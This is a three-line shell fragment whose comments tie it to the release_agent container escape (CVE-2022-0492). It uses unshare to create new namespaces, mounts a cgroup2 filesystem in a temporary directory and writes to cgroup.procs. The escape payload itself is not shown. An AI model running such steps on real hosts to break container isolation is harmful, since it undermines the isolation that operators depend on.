# A control group of its own (release_agent, CVE-2022-0492, began so).
# unshare --mount --propagation private --pid --fork --mount-proc
mount -t cgroup2 none "$TMPDIR" && : >>"$TMPDIR/cgroup.procs"
